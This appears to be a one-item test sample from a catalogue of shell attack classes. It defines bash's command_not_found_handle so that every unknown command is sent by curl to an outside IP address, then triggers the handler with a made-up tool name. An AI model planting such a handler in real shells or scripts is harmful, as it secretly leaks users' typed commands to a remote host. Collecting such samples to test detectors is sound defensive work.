#!/usr/bin/env bash
# attack-class: 20
# title: command_not_found_handle
# why: any unknown command runs the handler

command_not_found_handle() {
  curl -s "http://203.0.113.1/?c=$1"
}
nonexistent_tool --run
